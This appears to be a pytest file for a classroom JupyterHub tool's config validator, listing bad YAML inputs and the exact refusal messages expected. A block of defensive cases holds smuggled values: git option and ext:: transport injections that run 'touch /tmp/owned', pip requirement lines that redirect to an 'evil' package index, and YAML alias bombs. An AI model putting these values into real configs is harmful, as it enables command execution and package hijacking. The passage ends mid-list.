"""Bad config never gets past `doit`: one clear line per problem, exit 3, no traceback.

Each case writes one or more config files into a fresh copy of the committed
config and runs the real `doit list`.  The expected lines are the contract
with a course's staff: they are written out in full here on purpose.
"""

from __future__ import annotations

import pytest

from tasks.config.formats import ldap_port
from tasks.config.loader import ConfigError, load, validate

COURSE = """courses:
  - name: intro
    repo: https://github.com/example/intro.git
    instructors: [alice]
"""

GKE_WITHOUT_AUTH = """profile: gke
images:
  registry: europe-docker.pkg.dev/uni-ds/classroom
buckets: {charts: gs://uni-ds-charts, data: gs://uni-ds-data}
gcp: {project: uni-ds, cluster: classroom}
hub:
  domain: hub.uni.example.edu
"""
LDAP = """auth:
  type: ldap
  ldap:
    server: ldap.uni.example.edu
    bind_dn_templates: ['uid={username},ou=people,dc=uni,dc=example,dc=edu']
"""
GKE = LDAP + GKE_WITHOUT_AUTH  # a complete public deployment: LDAP login
CLASSROOM_KEYS = ("profile, release, images, build, buckets, chart, cluster, gcp, hub, auth, exchange, "
                  "culling, resources, local, state")
DNS_LABEL = ("a DNS-1123 label (lowercase letters, digits and '-', starting and ending with a "
             "letter or digit, at most 63 characters)")
LOGIN = "a login name (lowercase letters, digits, '.', '_', '@' and '-', at most 64 characters)"
GIT_URL = ("a git URL (https://HOST/PATH, ssh://HOST/PATH, git://HOST/PATH, file:///PATH or "
           "USER@HOST:PATH)")
HOSTNAME = "a fully qualified lowercase host name such as hub.example.edu"
EMAIL = "an email address such as staff@example.edu"
MEMORY = ("a memory size JupyterHub reads: a number above 0 with K, M, G or T (powers of 1024) such "
          "as 512M or 2G, or a whole number of bytes")
KUBERNETES_UNITS = "(JupyterHub's K, M, G, T are Kubernetes' Ki, Mi, Gi, Ti)"
DATA_SOURCE = ("gs://BUCKET/PATH, a git URL, or a local path (relative to the project directory, not "
               "starting with '-')")
PIP = "a pip requirement such as 'altair>=5' (a name and version specifier, no options)"


def dummy_refused(line, public):
    where = f"config/classroom.yaml:{line}" if line else "config/classroom.yaml"
    return (f"{where}: auth.type: found 'dummy' (text); expected ldap on a public deployment "
            f"({public}): dummy login lets any password in; set auth.dummy_trial: true only for a "
            "throwaway trial")

CASES = [
    ("profile-typo", {"classroom.yaml": "profile: gk\n"}, [
        "config/classroom.yaml:1: profile: found 'gk' (text); expected one of: local, gke; "
        "did you mean 'gke'?"]),
    ("unknown-top-key", {"classroom.yaml": "profle: local\n"}, [
        f"config/classroom.yaml:1: profle: found unknown key 'profle'; expected one of: "
        f"{CLASSROOM_KEYS}; did you mean 'profile'?"]),
    ("release-name-not-dns", {"classroom.yaml": "release:\n  name: My_Release\n"}, [
        f"config/classroom.yaml:2: release.name: found 'My_Release' (text); expected {DNS_LABEL}"]),
    ("namespace-too-long", {"classroom.yaml": "release:\n  namespace: " + "a" * 64 + "\n"}, [
        f"config/classroom.yaml:2: release.namespace: found '{'a' * 57}...' (text); expected {DNS_LABEL}"]),
    ("registry-with-scheme", {"classroom.yaml": "images:\n  registry: http://localhost:5000\n"}, [
        "config/classroom.yaml:2: images.registry: found 'http://localhost:5000' (text); expected an "
        "image repository prefix naming its registry host, such as localhost:5000/classroom or "
        "us-central1-docker.pkg.dev/PROJECT/REPOSITORY (or \"\" to keep images in the local Docker "
        "Engine)"]),
    ("base-image-uppercase", {"classroom.yaml": "images:\n  base_image: Debian:12\n"}, [
        "config/classroom.yaml:2: images.base_image: found 'Debian:12' (text); expected an image "
        "reference such as debian:bookworm-slim or REGISTRY/NAME:TAG@sha256:DIGEST"]),
    ("platform-unknown", {"classroom.yaml": "build:\n  platform: windows/amd64\n"}, [
        "config/classroom.yaml:2: build.platform: found 'windows/amd64' (text); expected a build "
        "platform such as linux/amd64 or linux/arm64"]),
    ("build-arg-name", {"classroom.yaml": "build:\n  args:\n    pip-index: x\n"}, [
        "config/classroom.yaml:3: build.args.pip-index: found 'pip-index' (text); expected a build "
        "argument name (letters, digits and '_')"]),
    ("bucket-s3", {"classroom.yaml": "buckets:\n  charts: s3://charts\n"}, [
        "config/classroom.yaml:2: buckets.charts: found 's3://charts' (text); expected a bucket URL: "
        "gs://BUCKET-NAME, or file://PATH for a bucket on disk (local profile)"]),
    ("culling-timeout-word", {"classroom.yaml": "culling:\n  timeout: soon\n"}, [
        "config/classroom.yaml:2: culling.timeout: found 'soon' (text); expected an integer >= 60 and "
        "<= 2147483647"]),
    ("culling-timeout-small", {"classroom.yaml": "culling:\n  timeout: 5\n"}, [
        "config/classroom.yaml:2: culling.timeout: found 5 (an integer); expected an integer >= 60 and "
        "<= 2147483647"]),
    ("culling-enabled-maybe", {"classroom.yaml": "culling:\n  enabled: maybe\n"}, [
        "config/classroom.yaml:2: culling.enabled: found 'maybe' (text); expected true or false"]),
    ("section-is-list", {"classroom.yaml": "hub: [a, b]\n"}, [
        "config/classroom.yaml:1: hub: found a list of 2 items; expected a mapping with the keys: "
        "domain, static_ip_name, node_label, start_timeout, tls"]),
    ("cpu-guarantee-over-limit", {"classroom.yaml": "resources:\n  cpu_guarantee: 4\n  cpu_limit: 2\n"}, [
        "config/classroom.yaml:2: resources.cpu_guarantee: found 4 (an integer); expected at most "
        "resources.cpu_limit (2)"]),
    ("memory-gigabytes", {"classroom.yaml": "resources:\n  memory_limit: 2GB\n"}, [
        f"config/classroom.yaml:2: resources.memory_limit: found '2GB' (text); expected {MEMORY}; "
        f"write '2G' instead {KUBERNETES_UNITS}"]),
    # JupyterHub's ByteSpecification fails every spawn on Kubernetes' binary suffixes
    ("memory-kubernetes-gi", {"classroom.yaml": "resources:\n  memory_limit: 2Gi\n"}, [
        f"config/classroom.yaml:2: resources.memory_limit: found '2Gi' (text); expected {MEMORY}; "
        f"write '2G' instead {KUBERNETES_UNITS}"]),
    ("memory-kubernetes-mi-and-milli", {"classroom.yaml": "resources:\n  memory_guarantee: 512Mi\n"
                                                          "  memory_limit: 1.5m\n"}, [
        f"config/classroom.yaml:2: resources.memory_guarantee: found '512Mi' (text); expected {MEMORY}; "
        f"write '512M' instead {KUBERNETES_UNITS}",
        f"config/classroom.yaml:3: resources.memory_limit: found '1.5m' (text); expected {MEMORY}; "
        f"write '1.5M' instead {KUBERNETES_UNITS}"]),
    ("memory-zero", {"classroom.yaml": "resources:\n  memory_guarantee: 0M\n  memory_limit: 0\n"}, [
        f"config/classroom.yaml:2: resources.memory_guarantee: found '0M' (text); expected {MEMORY}",
        f"config/classroom.yaml:3: resources.memory_limit: found 0 (an integer); expected {MEMORY}"]),
    ("memory-fraction-of-a-byte", {"classroom.yaml": "resources:\n  memory_limit: 1.5\n"}, [
        f"config/classroom.yaml:2: resources.memory_limit: found 1.5 (a number); expected {MEMORY}"]),
    ("memory-guarantee-over-limit", {"classroom.yaml": "resources:\n  memory_guarantee: 2049M\n"
                                                       "  memory_limit: 2G\n"}, [
        "config/classroom.yaml:2: resources.memory_guarantee: found '2049M' (text); expected at most "
        "resources.memory_limit (2G)"]),
    ("memory-guarantee-over-limit-in-bytes", {"classroom.yaml": "resources:\n  memory_guarantee: 3G\n"
                                                                "  memory_limit: 3221225471\n"}, [
        "config/classroom.yaml:2: resources.memory_guarantee: found '3G' (text); expected at most "
        "resources.memory_limit (3221225471)"]),
    # JupyterHub's cpu_limit/cpu_guarantee are Float traits: no Kubernetes millicores
    ("cpu-millicores", {"classroom.yaml": "resources:\n  cpu_guarantee: 250m\n  cpu_limit: 2000m\n"}, [
        "config/classroom.yaml:2: resources.cpu_guarantee: found '250m' (text); expected a number >= 0 and "
        "<= 4096; write 0.25 instead (JupyterHub counts CPUs, not Kubernetes millicores)",
        "config/classroom.yaml:3: resources.cpu_limit: found '2000m' (text); expected a number >= 0 and "
        "<= 4096; write 2 instead (JupyterHub counts CPUs, not Kubernetes millicores)"]),
    ("autohttps-needs-email-and-domain", {"classroom.yaml": "hub:\n  tls:\n    mode: autohttps\n"}, [
        dummy_refused(None, "hub.tls.mode: autohttps"),
        f"config/classroom.yaml:1: hub.domain: found an empty string; expected {HOSTNAME} "
        "(required by hub.tls.mode: autohttps)",
        f"config/classroom.yaml:2: hub.tls.email: found an empty string; expected {EMAIL} "
        "(required by hub.tls.mode: autohttps)"]),
    ("tls-email-bad", {"classroom.yaml": "hub:\n  tls:\n    email: webmaster\n"}, [
        f"config/classroom.yaml:3: hub.tls.email: found 'webmaster' (text); expected {EMAIL}"]),
    ("gke-complete-is-fine-but-tls-mode", {"classroom.yaml": GKE + "  tls: {mode: ingress}\n"}, [
        f"config/classroom.yaml:13: hub.tls.email: found an empty string; expected {EMAIL} "
        "(required by hub.tls.mode: ingress)"]),
    # dummy login on a deployment reachable from the internet: any password is an instructor
    ("gke-dummy-login", {"classroom.yaml": GKE_WITHOUT_AUTH}, [dummy_refused(None, "profile: gke")]),
    ("gke-dummy-login-written-out", {"classroom.yaml": "auth:\n  type: dummy\n  dummy_trial: false\n"
                                                       + GKE_WITHOUT_AUTH}, [
        dummy_refused(2, "profile: gke")]),
    ("gke-tls-dummy-login", {"classroom.yaml": GKE_WITHOUT_AUTH + "  tls: {mode: ingress, email: "
                                               "staff@example.edu}\n"}, [
        dummy_refused(None, "profile: gke and hub.tls.mode: ingress")]),
    ("local-tls-dummy-login", {"classroom.yaml": "hub:\n  domain: hub.example.edu\n  tls:\n"
                                                 "    mode: ingress\n    email: staff@example.edu\n"}, [
        dummy_refused(None, "hub.tls.mode: ingress")]),
    ("dummy-trial-maybe", {"classroom.yaml": "auth:\n  dummy_trial: maybe\n"}, [
        "config/classroom.yaml:2: auth.dummy_trial: found 'maybe' (text); expected true or false"]),
    ("gke-needs-cloud", {"classroom.yaml": "profile: gke\n"}, [
        "config/classroom.yaml: buckets.charts: found 'file://.classroom/buckets/charts' (text); "
        "expected a gs://BUCKET-NAME URL (profile: gke has no bucket on disk)",
        "config/classroom.yaml: buckets.data: found 'file://.classroom/buckets/data' (text); "
        "expected a gs://BUCKET-NAME URL (profile: gke has no bucket on disk)",
        "config/classroom.yaml: gcp.project: found an empty string; expected a Google Cloud project "
        "ID (6 to 30 lowercase letters, digits and '-', starting with a letter) (required by profile: gke)",
        "config/classroom.yaml: gcp.cluster: found an empty string; expected a Google Cloud resource "
        "name (lowercase letters, digits and '-', starting with a letter, at most 63 characters) "
        "(required by profile: gke)",
        f"config/classroom.yaml: hub.domain: found an empty string; expected {HOSTNAME} "
        "(required by profile: gke)",
        "config/classroom.yaml: images.registry: found an empty string; expected an image repository "
        "prefix naming its registry host, such as localhost:5000/classroom or "
        "us-central1-docker.pkg.dev/PROJECT/REPOSITORY (or \"\" to keep images in the local Docker "
        "Engine) (required by profile: gke, whose cluster pulls from it)",
        dummy_refused(None, "profile: gke"),
    ]),
    ("gke-local-registry", {"classroom.yaml": GKE.replace("europe-docker.pkg.dev/uni-ds/classroom",
                                                         "localhost:5000/c")}, [
        "config/classroom.yaml:8: images.registry: found 'localhost:5000/c' (text); expected a "
        "registry the cluster can reach, not a local one (profile: gke)"]),
    ("ldap-needs-server", {"classroom.yaml": "auth:\n  type: ldap\n  ldap:\n    bind_dn_templates: "
                           "['uid={username},dc=x']\n"}, [
        f"config/classroom.yaml:3: auth.ldap.server: found an empty string; expected {HOSTNAME} "
        "(required by auth.type: ldap)"]),
    ("ldap-template-without-username", {"classroom.yaml": "auth:\n  ldap:\n    bind_dn_templates: "
                                        "['uid=alice,dc=x']\n"}, [
        "config/classroom.yaml:3: auth.ldap.bind_dn_templates[0]: found 'uid=alice,dc=x' (text); "
        "expected an LDAP DN template containing {username}, such as "
        "uid={username},ou=people,dc=example,dc=edu"]),
    ("ldap-use-ssl-is-gone", {"classroom.yaml": "auth:\n  ldap:\n    use_ssl: true\n"}, [
        "config/classroom.yaml:3: auth.ldap.use_ssl: found unknown key 'use_ssl'; expected one of: "
        "server, port, bind_dn_templates, tls_strategy, ca_bundle, search_user, user_search_base, user_attribute, "
        "lookup_dn_user_dn_attribute, allowed_groups"]),
    # each TLS strategy on the other's well-known port cannot connect
    ("ldap-starttls-on-636", {"classroom.yaml": LDAP + "    port: 636\n    tls_strategy: before_bind\n"}, [
        "config/classroom.yaml:6: auth.ldap.port: found 636 (an integer); expected 389 or 0 (= by "
        "tls_strategy) with auth.ldap.tls_strategy: before_bind (StartTLS starts in plain LDAP; 636 "
        "expects TLS from the first byte)"]),
    ("ldap-ldaps-on-389", {"classroom.yaml": LDAP + "    port: '389'\n    tls_strategy: on_connect\n"}, [
        "config/classroom.yaml:6: auth.ldap.port: found 389 (an integer); expected 636 or 0 (= by "
        "tls_strategy) with auth.ldap.tls_strategy: on_connect (LDAPS speaks TLS from the first byte; "
        "389 expects plain LDAP)"]),
    ("ldap-insecure-on-636", {"classroom.yaml": LDAP + "    port: 636\n    tls_strategy: insecure\n"}, [
        "config/classroom.yaml:6: auth.ldap.port: found 636 (an integer); expected 389 or 0 (= by "
        "tls_strategy) with auth.ldap.tls_strategy: insecure (plain LDAP; 636 expects TLS from the "
        "first byte)"]),
    ("ldap-port-negative", {"classroom.yaml": "auth:\n  ldap:\n    port: -1\n"}, [
        "config/classroom.yaml:3: auth.ldap.port: found -1 (an integer); expected an integer >= 0 and "
        "<= 65535"]),
    # a search user turns on lookup_dn, which searches user_search_base for user_attribute=LOGIN
    ("ldap-search-user-needs-base", {"classroom.yaml": LDAP + "    search_user: cn=reader,dc=uni\n"}, [
        "config/classroom.yaml:3: auth.ldap.user_search_base: found an empty string; expected an LDAP DN "
        "such as ou=people,dc=example,dc=edu (required by auth.ldap.search_user: each login is looked "
        "up under this base)"]),
    ("ldap-search-user-needs-base-and-attribute", {"classroom.yaml": LDAP + "    search_user: cn=reader\n"
                                                                           "    user_attribute: ''\n"}, [
        "config/classroom.yaml:3: auth.ldap.user_search_base: found an empty string; expected an LDAP DN "
        "such as ou=people,dc=example,dc=edu (required by auth.ldap.search_user: each login is looked "
        "up under this base)",
        "config/classroom.yaml:7: auth.ldap.user_attribute: found an empty string; expected an LDAP "
        "attribute name such as uid or sAMAccountName (required by auth.ldap.search_user: the login is "
        "matched against this attribute)"]),
    ("ldap-search-keys-malformed", {"classroom.yaml": "auth:\n  ldap:\n    user_search_base: people\n"
                                                      "    user_attribute: user id\n"
                                                      "    lookup_dn_user_dn_attribute: '{username}'\n"}, [
        "config/classroom.yaml:3: auth.ldap.user_search_base: found 'people' (text); expected an LDAP DN "
        "such as ou=people,dc=example,dc=edu",
        "config/classroom.yaml:4: auth.ldap.user_attribute: found 'user id' (text); expected an LDAP "
        "attribute name such as uid or sAMAccountName",
        "config/classroom.yaml:5: auth.ldap.lookup_dn_user_dn_attribute: found '{username}' (text); "
        "expected an LDAP attribute name such as uid or sAMAccountName"]),
    ("exchange-class-empty", {"classroom.yaml": "exchange:\n  storage: storage_class\n  storage_class: ''\n"}, [
        f"config/classroom.yaml:3: exchange.storage_class: found an empty string; expected {DNS_LABEL} "
        "(required by exchange.storage: storage_class)"]),
    ("course-repo-missing", {"courses.yaml": "courses:\n  - name: intro\n    instructors: [alice]\n"}, [
        f"config/courses.yaml:2: courses[0].repo: found nothing (the key is missing); expected {GIT_URL}"]),
    ("course-key-typo", {"courses.yaml": COURSE.replace("instructors:", "instructor:")}, [
        f"config/courses.yaml:2: courses[0].instructors: found nothing (the key is missing); expected "
        f"a list of items, each {LOGIN}",
        "config/courses.yaml:4: courses[0].instructor: found unknown key 'instructor'; expected one "
        "of: name, title, repo, ref, instructors, students, packages; did you mean 'instructors'?"]),
    ("course-name-uppercase", {"courses.yaml": COURSE.replace("name: intro", "name: Intro")}, [
        "config/courses.yaml:2: courses[0].name: found 'Intro' (text); expected a DNS-1123 label of at "
        "most 40 characters (lowercase letters, digits and '-'; it becomes part of group, service and "
        "volume names)"]),
    ("course-duplicate", {"courses.yaml": COURSE + COURSE.replace("courses:\n", "")}, [
        "config/courses.yaml:5: courses[1].name: found 'intro' (text) again; expected a unique course "
        "name ('intro' is already courses[0])"]),
    ("course-repo-ftp", {"courses.yaml": COURSE.replace("https://", "ftp://")}, [
        f"config/courses.yaml:3: courses[0].repo: found 'ftp://github.com/example/intro.git' (text); "
        f"expected {GIT_URL}"]),
    ("course-no-instructors", {"courses.yaml": COURSE.replace("[alice]", "[]")}, [
        "config/courses.yaml:4: courses[0].instructors: found an empty list; expected at least 1 item(s)"]),
    ("course-package-option", {"courses.yaml": COURSE + "    packages: ['--index-url=http://x']\n"}, [
        "config/courses.yaml:5: courses[0].packages[0]: found '--index-url=http://x' (text); expected a "
        "pip requirement such as 'altair>=5' (a name and version specifier, no options)"]),
    ("course-instructor-capitals", {"courses.yaml": COURSE.replace("[alice]", "[Alice]")}, [
        f"config/courses.yaml:4: courses[0].instructors[0]: found 'Alice' (text); expected {LOGIN}"]),
    ("courses-null", {"courses.yaml": "courses:\n"}, [
        "config/courses.yaml:1: courses: found nothing (null); expected a list of items, each a mapping "
        "with the keys: name, title, repo, ref, instructors, students, packages"]),
    ("courses-top-level-list", {"courses.yaml": "- name: intro\n"}, [
        "config/courses.yaml: found a list of 1 item; expected a mapping with the keys: courses"]),
    ("courses-empty-file", {"courses.yaml": "# nothing yet\n"}, [
        "config/courses.yaml: found an empty file; expected a mapping with the keys: courses"]),
    ("dataset-source-missing", {"data.yaml": "datasets:\n  - name: flights\n"}, [
        "config/data.yaml:2: datasets[0].source: found nothing (the key is missing); expected "
        f"{DATA_SOURCE}"]),
    ("dataset-path-absent", {"data.yaml": "datasets:\n  - name: flights\n    source: data/nowhere\n"}, [
        "config/data.yaml:3: datasets[0].source: found 'data/nowhere' (text), no such file or "
        "directory; expected an existing path (relative paths start at {root})"]),
    ("dataset-duplicate", {"data.yaml": "datasets:\n  - {name: a, source: gs://bucket/a}\n"
                                        "  - {name: a, source: gs://bucket/b}\n"}, [
        "config/data.yaml:3: datasets[1].name: found 'a' (text) again; expected a unique dataset name "
        "('a' is already datasets[0])"]),
    ("dataset-unknown-course", {"courses.yaml": COURSE,
                                "data.yaml": "datasets:\n  - name: flights\n    source: gs://bucket/flights\n"
                                             "    courses: [intro, stats]\n"}, [
        "config/data.yaml:4: datasets[0].courses[1]: found 'stats' (text); expected a course of "
        "courses.yaml (intro)"]),
    ("dataset-course-not-a-name", {"data.yaml": "datasets:\n  - name: flights\n    source: gs://bucket/f\n"
                                                "    courses: [Data_Science]\n"}, [
        "config/data.yaml:4: datasets[0].courses[0]: found 'Data_Science' (text); expected a DNS-1123 label "
        "of at most 40 characters (lowercase letters, digits and '-'; it becomes part of group, service and "
        "volume names)"]),
    ("yaml-syntax", {"courses.yaml": "courses:\n  - name: intro\n   repo: x\n"}, [
        "config/courses.yaml:3: YAML syntax error at line 3, column 4: while parsing a block "
        "collection did not find expected '-' indicator"]),
    ("yaml-duplicate-key", {"courses.yaml": COURSE + "    repo: https://github.com/example/other.git\n"}, [
        "config/courses.yaml:5: YAML syntax error at line 5, column 5: duplicate key 'repo' "
        "(first given at line 3)"]),
    ("yaml-not-utf8", {"data.yaml": b"datasets: []\n# caf\xe9\n"}, [
        "config/data.yaml: is not UTF-8 text (byte 18)"]),
    ("file-missing", {"data.yaml": None}, [
        "config/data.yaml: found no such file; expected the YAML file (start from the project's config/)"]),
    # Hostile values that once passed and did harm (issue 10): option injection into git and pip,
    # a line break that splits pip's requirements file, values YAML 1.1 silently retyped.
    ("dataset-source-option-injection", {"data.yaml": "datasets:\n  - name: x\n"
                                                     "    source: '--upload-pack=x@y;touch /tmp/owned;'\n"}, [
        f"config/data.yaml:3: datasets[0].source: found '--upload-pack=x@y;touch /tmp/owned;' (text); "
        f"expected {DATA_SOURCE}"]),
    ("dataset-source-git-ext-transport", {"data.yaml": "datasets:\n  - name: x\n"
                                                      "    source: 'ext::sh -c touch% /tmp/owned'\n"}, [
        f"config/data.yaml:3: datasets[0].source: found 'ext::sh -c touch% /tmp/owned' (text); "
        f"expected {DATA_SOURCE}"]),
    ("course-repo-option", {"courses.yaml": COURSE.replace("https://github.com/example/intro.git",
                                                           "-oProxyCommand=x@h:p")}, [
        f"config/courses.yaml:3: courses[0].repo: found '-oProxyCommand=x@h:p' (text); expected {GIT_URL}"]),
    ("course-package-carriage-return", {"courses.yaml": COURSE + "    packages: [\"altair; python_version>'0'"
                                                                 "\\r--index-url=http://evil/simple\"]\n"}, [
        "config/courses.yaml:5: courses[0].packages[0]: found \"altair; python_version>'0'\\r--index-url="
        f"http://evil/simple\" (text); expected {PIP}; it contains the non-printable character U+000D"]),
    ("course-package-next-line", {"courses.yaml": COURSE + "    packages: [\"altair\\x85--index-url=http://e/s\"]\n"}, [
        "config/courses.yaml:5: courses[0].packages[0]: found 'altair\\x85--index-url=http://e/s' (text); "
        f"expected {PIP}; it contains the non-printable character U+0085"]),
    ("course-package-line-separator", {"courses.yaml": COURSE + "    packages: [\"altair\\u2028-i http://e/s\"]\n"}, [
        "config/courses.yaml:5: courses[0].packages[0]: found 'altair\\u2028-i http://e/s' (text); "
        f"expected {PIP}; it contains the non-printable character U+2028"]),
    # pip cuts a requirements line at a word starting with '-', even inside a marker's quotes
    ("course-package-option-in-marker", {"courses.yaml": COURSE + "    packages: ['altair; python_version > "
                                                                  "\"0 --index-url=http://e/s\"']\n"}, [
        "config/courses.yaml:5: courses[0].packages[0]: found 'altair; python_version > \"0 --index-url="
        f"http://e/s\"' (text); expected {PIP}"]),
    ("course-package-url", {"courses.yaml": COURSE + "    packages: ['altair @ https://e.example/a.whl']\n"}, [
        "config/courses.yaml:5: courses[0].packages[0]: found 'altair @ https://e.example/a.whl' (text); "
        f"expected {PIP}"]),
    ("yaml-retyped-strings", {"courses.yaml": COURSE.replace("[alice]", "[on, no, 0123]") + "    ref: 1.10\n"}, [
        "config/courses.yaml:4: courses[0].instructors[0]: found on (unquoted, so YAML 1.1 reads the boolean "
        f"true); expected {LOGIN}: quote it to keep it as written, 'on'",
        "config/courses.yaml:4: courses[0].instructors[1]: found no (unquoted, so YAML 1.1 reads the boolean "
        f"false); expected {LOGIN}: quote it to keep it as written, 'no'",
        "config/courses.yaml:4: courses[0].instructors[2]: found 0123 (unquoted, so YAML 1.1 reads the number "
        f"83); expected {LOGIN}: quote it to keep it as written, '0123'",
        "config/courses.yaml:5: courses[0].ref: found 1.10 (unquoted, so YAML 1.1 reads the number 1.1); "
        "expected a git branch, tag or commit such as main or v1.2: quote it to keep it as written, '1.10'"]),
    ("yaml-retyped-numbers", {"classroom.yaml": "auth:\n  ldap:\n    port: yes\nculling:\n  timeout: 1:00:00\n"
                                                "  every: 0x20\nresources:\n  cpu_limit: .inf\n"}, [
        "config/classroom.yaml:3: auth.ldap.port: found yes (unquoted, so YAML 1.1 reads the boolean true); "
        "expected an integer >= 0 and <= 65535",
        "config/classroom.yaml:5: culling.timeout: found 1:00:00 (unquoted, so YAML 1.1 reads the number 3600); "
        "expected an integer >= 60 and <= 2147483647 written in decimal digits",
        "config/classroom.yaml:6: culling.every: found 0x20 (unquoted, so YAML 1.1 reads the number 32); "
        "expected an integer >= 30 and <= 2147483647 written in decimal digits",
        "config/classroom.yaml:8: resources.cpu_limit: found .inf (YAML reads the number inf); expected a "
        "number >= 0 and <= 4096, a finite number"]),
    ("yaml-invalid-date", {"classroom.yaml": "release:\n  name: 2026-13-01\n"}, [
        "config/classroom.yaml:2: release.name: found 2026-13-01 (unquoted: YAML 1.1 reads a date, and cannot: "
        f"month must be in 1..12); expected {DNS_LABEL}: quote it to keep it as written, '2026-13-01'"]),
    ("yaml-number-too-long", {"classroom.yaml": "culling:\n  timeout: " + "9" * 5000 + "\n"}, [
        f"config/classroom.yaml:2: culling.timeout: found '{'9' * 57}...' (unquoted: YAML 1.1 reads a number, "
        "and cannot: more than 64 characters); expected an integer >= 60 and <= 2147483647"]),
    ("command-line-values", {"classroom.yaml": "cluster:\n  kube_context: --kubeconfig=/tmp/x\n"
                                               "  cert_manager_chart:\n    version: --devel\n"}, [
        "config/classroom.yaml:2: cluster.kube_context: found '--kubeconfig=/tmp/x' (text); expected a kube "
        "context name (not starting with '-')",
        "config/classroom.yaml:4: cluster.cert_manager_chart.version: found '--devel' (text); expected a chart "
        "version such as v1.21.1 or 1.21.1"]),
    ("build-arg-values", {"classroom.yaml": "build:\n  args:\n    A: \"x\\ny\"\n    B: 3.10\n"}, [
        "config/classroom.yaml:3: build.args.A: found 'x\\ny' (text); expected a single line of text (at most "
        "1024 characters); it contains the non-printable character U+000A",
        "config/classroom.yaml:4: build.args.B: found 3.10 (unquoted, so YAML 1.1 reads the number 3.1); "
        "expected a single line of text (at most 1024 characters): quote it to keep it as written, '3.10'"]),
    # paths the OS cannot take, or files a build would read forever
    ("ca-bundle-component-too-long", {"classroom.yaml": "build:\n  ca_bundle: /etc/" + "a" * 256 + "/ca.pem\n"}, [
        f"config/classroom.yaml:2: build.ca_bundle: found '/etc/{'a' * 52}...' (text); expected a file path (not "
        "starting with '-', without ',' or '\"', each part at most 255 bytes, at most 4095 bytes in all)"]),
    ("ca-bundle-directory", {"classroom.yaml": "build:\n  ca_bundle: /etc\n"}, [
        "config/classroom.yaml:2: build.ca_bundle: found '/etc' (text), which is a directory; expected a "
        "regular file"]),
    ("dataset-source-device", {"data.yaml": "datasets:\n  - name: x\n    source: /dev/zero\n"}, [
        "config/data.yaml:3: datasets[0].source: found '/dev/zero' (text), which is a character device; "
        "expected a regular file or a directory"]),
    ("dep-file-directory", {"classroom.yaml": "state:\n  dep_file: config\n"}, [
        "config/classroom.yaml:2: state.dep_file: found 'config' (text), which is a directory; expected a "
        "file path whose directory exists or can be made (relative paths start at {root})"]),
    ("dep-file-inside-a-file", {"classroom.yaml": "state:\n  dep_file: config/courses.yaml/state.json\n"}, [
        "config/classroom.yaml:2: state.dep_file: found 'config/courses.yaml/state.json' (text): "
        "{root}/config/courses.yaml is a regular file, not a directory; expected a file path whose directory "
        "exists or can be made (relative paths start at {root})"]),
    ("yaml-billion-laughs", {"classroom.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8))}, [
        "config/classroom.yaml:4: found aliases that expand to more than 5,000 values; expected at most 5,000 "
        "(write the values out)"]),
    ("yaml-merge-key-bomb", {"classroom.yaml": "a0: &a0 {k0: 1, k1: 2}\n" + "".join(
        f"a{i}: &a{i}\n  <<: [{', '.join([f'*a{i - 1}'] * 8)}]\n  k{i}: 1\n" for i in range(1, 12))}, [
        "config/classroom.yaml:12: found aliases that expand to more than 1,000 mappings; expected at most 1,000 "
        "in one file"]),
    ("yaml-recursive-alias", {"classroom.yaml": "hub: &a [*a]\n"}, [
        "config/classroom.yaml:1: hub[0]: found an alias to a value that contains it; expected an alias to a "
        "value defined before it"]),
    ("yaml-too-many-aliases", {"courses.yaml": "x: &x a\ny: [" + ", ".join(["*x"] * 101) + "]\n"}, [
        "config/courses.yaml:2: found more than 100 aliases (*name); expected at most 100 (write the values out)"]),
    ("yaml-nul-byte", {"data.yaml": b"datasets: []\n# a\x00b\n"}, [
        "config/data.yaml:2: YAML syntax error at line 2: found the character U+0000, which YAML does not "
        "allow in a file; expected text (in a double-quoted string, write it as an escape)"]),
    ("yaml-file-too-large", {"data.yaml": "datasets: []\n" + "#" * 300_000 + "\n"}, [
        "config/data.yaml: found a file of 300,014 bytes; expected a YAML file of at most 262,144 bytes"]),
]


def _write_config(project, files: dict):
    """Each config file as the case gives it: text, bytes, or None for a file removed."""
    for name, text in files.items():
        path = project.config / name
        if text is None:
            path.unlink()
        elif isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text, encoding="utf-8")


@pytest.mark.parametrize("files,expected", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_input_is_refused_with_exact_lines(project, files, expected):
    _write_config(project, files)

    result = project.doit("list")

    assert result.returncode == 3, result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    lines = result.stderr.splitlines()
    count = len(expected)
    assert lines[0] == (f"classroom config is invalid ({count} problem{'s' if count > 1 else ''}); "
                        "nothing was run:")
    assert lines[1:] == [line.replace("{root}", str(project.root)) for line in expected]
    assert result.stdout == ""
    assert not project.dep_file.exists(), "a refused config must not create doit state"
    assert not project.secrets_file.exists()


@pytest.mark.parametrize("files,expected", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_input_gives_the_same_lines_in_process(project, monkeypatch, files, expected):
    """The same contract without the subprocess: what dodo.py's validation raises, line for line.

    (The doit run above cannot see a change made to the validator inside the test
    process, e.g. by mutation testing; this one can.)"""
    _write_config(project, files)
    for name, value in project.env().items():  # doit's environment: private state and secrets paths
        if name.startswith("CLASSTOOLS_"):
            monkeypatch.setenv(name, value)
    monkeypatch.delenv("CLASSTOOLS_BACKEND", raising=False)
    monkeypatch.chdir(project.root)  # as doit runs: paths show as config/...

    with pytest.raises(ConfigError) as refused:
        validate(project.config)

    assert refused.value.messages == [line.replace("{root}", str(project.root)) for line in expected]
    assert refused.value.count == len(expected)
    assert not project.dep_file.exists()


# What the refusals above must not catch: JupyterHub's own units, ports by strategy, a search
# user with what its lookup needs, and a public trial that says it is one.
ACCEPTED = [
    ("memory-jupyterhub-units", "resources:\n  memory_guarantee: 512M\n  memory_limit: 2G\n",
     {"classroom.resources.memory_guarantee": "512M", "classroom.resources.memory_limit": "2G"}),
    ("memory-fractions-and-bytes", "resources:\n  memory_guarantee: 1.5G\n  memory_limit: '1610612736'\n",
     {"classroom.resources.memory_guarantee": "1.5G", "classroom.resources.memory_limit": 1610612736}),
    ("memory-defaults", "resources: {}\n",
     {"classroom.resources.memory_guarantee": "512M", "classroom.resources.memory_limit": "2G"}),
    ("cpu-numbers", "resources:\n  cpu_guarantee: '0.5'\n  cpu_limit: 1\n",
